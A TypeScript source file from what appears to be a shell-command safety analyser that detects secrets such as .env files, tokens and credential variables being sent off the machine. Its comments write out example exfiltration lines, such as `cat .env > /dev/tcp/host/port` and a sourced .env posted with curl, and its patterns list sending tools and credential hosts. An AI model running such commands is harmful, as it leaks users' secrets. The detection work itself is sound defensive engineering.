/**
 * Secrets that a command line sends away. A secret that reaches a sending command through a pipe, a substitution or a
 * file leaves the machine. One that is only used locally, as in `docker login`, does not.
 */

import type { Effect, Where } from "../model/effect.js";
import type { Invocation, Word } from "../model/invocation.js";
import { isLoopback, isNear, staysAt } from "../model/near-hosts.js";
import { lineOf } from "../model/rules.js";
import { absolute } from "../paths/paths.js";
import { isSensitive } from "../paths/sensitive.js";
import { keptSources, sentEverything, sentKept } from "./kept-files.js";
import { leak, NOT_OWN } from "./leak.js";
import { pushedAway } from "./pushed-away.js";
import { searches } from "./searches.js";
import { carries, isSender, isStore, toRawAddress } from "./senders.js";
import { shown } from "./shown.js";
import { type EffectsOf, type Source, secretVariable, sourceOf } from "./sources.js";
import { spelled } from "./spelled.js";
import { writtenSecrets } from "./written.js";

export function leaks(invocations: readonly Invocation[], where: Where, effectsOf: EffectsOf): Effect[] {
  const sources = new Map<Invocation, Source>();
  for (const invocation of invocations) {
    const source = sourceOf(invocation, where, effectsOf);
    if (source !== undefined) sources.set(invocation, source);
  }
  const looked = [
    ...searches(invocations, where),
    ...pushedAway(invocations),
    ...writtenSecrets(invocations, sources, where),
  ];
  const senders = invocations.filter((invocation) => isSender(invocation, effectsOf));
  if (sources.size === 0 && senders.length === 0) return looked;
  const copies = copiesOf(sources, where);
  const own = keptSources(invocations, where, effectsOf);
  const ownCopies = copiesOf(own, where);
  const sent = senders.flatMap((sender) => {
    const source =
      toSocket(sender, sources) ??
      piped(sender, sources, 0) ??
      substituted(sender, sources) ??
      attached(sender, copies, where) ??
      sentFile(sender, where, effectsOf);
    if (source !== undefined) return [leak(sender, source, "destructive")];
    const stored = inVariable(sender, invocations, sources);
    if (stored !== undefined) return [leak(sender, stored, "risky")];
    const variable = sentVariable(sender, invocations, where);
    if (variable !== undefined) return [leak(sender, variable, "risky")];
    if (staysAt(lineOf(sender), isNear)) return [];
    if (sender.program === "rclone" && sender.args.some(({ text }) => /^:[a-z0-9]{2,20}[,:]/.test(text)))
      return [leak(sender, { what: "files", from: "file" }, "risky", NOT_OWN)];
    const kept = isStore(sender)
      ? sentEverything(sender, where)
      : (sentKept(sender, where, effectsOf) ??
        piped(sender, own, 0) ??
        substituted(sender, own) ??
        attached(sender, ownCopies, where));
    if (kept === undefined && toRawAddress(sender))
      return [leak(sender, { what: "files", from: "file" }, "risky", NOT_OWN)];
    const usual = kept?.from === "tool" && /^(?:ssh|mailx?|mutt|sendmail)$/.test(sender.program ?? "");
    return kept === undefined || usual ? [] : [leak(sender, kept, "risky", NOT_OWN)];
  });
  return [...sent, ...spelled(invocations), ...shown(invocations, sources), ...looked];
}

function piped({ input }: Invocation, sources: ReadonlyMap<Invocation, Source>, depth: number): Source | undefined {
  if (input.kind !== "pipe" || depth > 20) return undefined;
  for (const from of input.from) {
    const source = sources.get(from) ?? piped(from, sources, depth + 1);
    if (source !== undefined) return narrowed(from, source);
  }
  return undefined;
}

/** `cat .env > /dev/tcp/host/port` */
function toSocket(sender: Invocation, sources: ReadonlyMap<Invocation, Source>): Source | undefined {
  return sender.redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text))
    ? sources.get(sender)
    : undefined;
}

/** `env | grep ^PATH` is no longer all variables. */
function narrowed({ program = "" }: Invocation, source: Source): Source | undefined {
  return source.from === "variables" && /^(?:[ef]?grep|rg|wc|cut|head|tail)$/.test(program) ? undefined : source;
}

/** A credential may be sent to the service it belongs to. */
const OPENS =
  /^(?:-H|--header|-u|--user|--oauth2-bearer|--proxy-user|-b|--cookie|--proxy-header|--http-password|--password)$/;

function substituted({ args, program = "" }: Invocation, sources: ReadonlyMap<Invocation, Source>): Source | undefined {
  for (const [at, word] of args.entries()) {
    if (word.known) continue;
    const opens = OPENS.test(args[at - 1]?.text ?? "") || /^(?:-H|--header=|-u)./.test(word.text);
    for (const [inner, source] of sources)
      if (opens && source.from !== "variables" && !isForeign(args, source)) continue;
      else if (inner.captured && holds(word, inner) && !(program === "ssh" && source.from !== "file")) return source;
  }
  return undefined;
}

/** Tools that print a token, and the hosts it is for. */
const OWN_HOSTS: readonly (readonly [what: RegExp, host: RegExp])[] = [
  [/GitHub/, /github/],
  [/GitLab/, /gitlab/],
  [/AWS/, /amazonaws|aws/],
  [/Google|gcloud/i, /google|gcr\.io|pkg\.dev|run\.app|cloudfunctions/],
  [/Azure/, /azure|microsoft|windows\.net/],
];

/** The token of a service in a header for another host. */
function isForeign(args: readonly Word[], { what }: Source): boolean {
  const own = OWN_HOSTS.find(([form]) => form.test(what))?.[1];
  const hosts = args.flatMap(({ text }) => /^https?:\/\/(?:[^/@\s]{1,100}@)?([\w.-]{1,200})/.exec(text)?.[1] ?? []);
  return (
    own !== undefined &&
    hosts.length > 0 &&
    hosts.every((host) => !own.test(host) && !isNear(host) && !isLoopback(host))
  );
}

/** `x=$(cat .env)` followed by sending `$x`: tracks variables that receive a secret and are sent. */
function inVariable(
  { args }: Invocation,
  invocations: readonly Invocation[],
  sources: ReadonlyMap<Invocation, Source>,
): Source | undefined {
  const leaves = args.some(
    ({ source }, at) =>
      /\$\{?[A-Za-z_]/.test(source) && !OPENS.test(args[at - 1]?.text ?? "") && !/^["']?-H/.test(source),
  );
  if (!leaves) return undefined;
  for (const [inner, source] of sources) {
    const used = invocations.some((other) => other !== inner && other.args.some((word) => holds(word, inner)));
    if (inner.captured && source.from === "file" && !used) return source;
  }
  return undefined;
}

/** The service that a key belongs to, by its name prefix. */
const GIVERS = new Map<string, RegExp>([
  ["AWS", /amazonaws|aws/],
  ["GITHUB", /github/],
  ["GH", /github/],
  ["GITLAB", /gitlab/],
  ["NPM", /npmjs/],
  ["STRIPE", /stripe/],
  ["OPENAI", /openai/],
  ["ANTHROPIC", /anthropic/],
  ["SLACK", /slack/],
  ["GOOGLE", /google/],
  ["AZURE", /azure|windows\.net|microsoft/],
  ["CLOUDFLARE", /cloudflare/],
  ["HEROKU", /heroku/],
  ["TWILIO", /twilio/],
  ["SENDGRID", /sendgrid/],
]);

/** Programs that show a text to other people. */
const POSTS = /^(?:gh|glab|jira|acli|linear|slack|toot|notion-cli|mattermost)$/;

/** `. ./.env; curl -d "$API_KEY" …`: a value from a file with secrets, or a secret that is the whole body. */
function sentVariable(
  { args, program = "" }: Invocation,
  invocations: readonly Invocation[],
  where: Where,
): Source | undefined {
  const sourced = invocations.some(
    ({ program, args: [file], cwd }) =>
      (program === "." || program === "source") &&
      file !== undefined &&
      isSensitive(absolute(file.text, where, cwd) ?? file.text) !== undefined,
  );
  for (const [at, word] of args.entries()) {
    const name = secretVariable(word);
    if (name === undefined || OPENS.test(args[at - 1]?.text ?? "") || /^(?:["']?-H|--header=|-u)/.test(word.source))
      continue;
    const giver = GIVERS.get(/^[A-Z]{2,12}(?=_)/.exec(name)?.[0] ?? "");
    const host = /^["']?\w{3,5}:\/\/(?:[^/@\s]{1,100}@)?([\w.-]{1,200})/.exec(word.text)?.[1];
    if (giver !== undefined && host !== undefined && !giver.test(host))
      return { what: `the variable ${name}`, from: "variable" };
    if (sourced || POSTS.test(program) || /^["']?\$\{?\w{1,80}\}?["']?$/.test(word.source))
      return { what: `the variable ${name}`, from: "variable" };
  }
  return undefined;
}

function holds({ source }: Word, { words }: Invocation): boolean {
  return words !== "" && source.includes(words);
}

/** Files that received part of a secret on this line. */
function copiesOf(sources: ReadonlyMap<Invocation, Source>, where: Where): Map<string, Source> {
  const copies = new Map<string, Source>();
  for (const [{ program = "", args, redirects, cwd }, source] of sources) {
    const words = redirects.filter(({ operator }) => operator !== "<").map(({ target }) => target);
    if (/^(?:cp|mv|tar|bsdtar|zip|7z|gzip|gpg|age|openssl|base64|install|ditto|rsync)$/.test(program))
      words.push(...args.filter(({ text }) => !text.startsWith("-")));
    for (const word of words) {
      const path = absolute(word.text, where, cwd);
      if (path !== undefined && isSensitive(path) === undefined && path !== where.home) copies.set(path, source);
    }
  }
  return copies;
}

function attached(
  { args, input, cwd }: Invocation,
  copies: ReadonlyMap<string, Source>,
  where: Where,
): Source | undefined {
  if (copies.size === 0) return undefined;
  const words = input.kind === "file" ? [...args, input.file] : args;
  for (const { text } of words)
    for (const part of [text, text.replace(/^[^@<]{0,100}[@<]/, "")]) {
      const source = copies.get(absolute(part, where, cwd) ?? "");
      if (source !== undefined) return source;
    }
  return undefined;
}

function sentFile(sender: Invocation, where: Where, effectsOf: EffectsOf): Source | undefined {
  for (const { kind, target } of effectsOf(sender))
    if (kind === "send" && target?.type === "path" && target.sensitive === true)
      return { what: isSensitive(target.name)!, from: "file" };
  const words = carries(sender) ? sender.args : [];
  for (const { text } of words) {
    const what = /^-|:\/\//.test(text) ? undefined : isSensitive(absolute(text, where, sender.cwd) ?? text);
    if (what !== undefined) return { what, from: "file" };
  }
  const { input } = sender;
  const what = input.kind === "file" ? isSensitive(absolute(input.file.text, where, sender.cwd) ?? "") : undefined;
  return what === undefined ? undefined : { what, from: "file" };
}
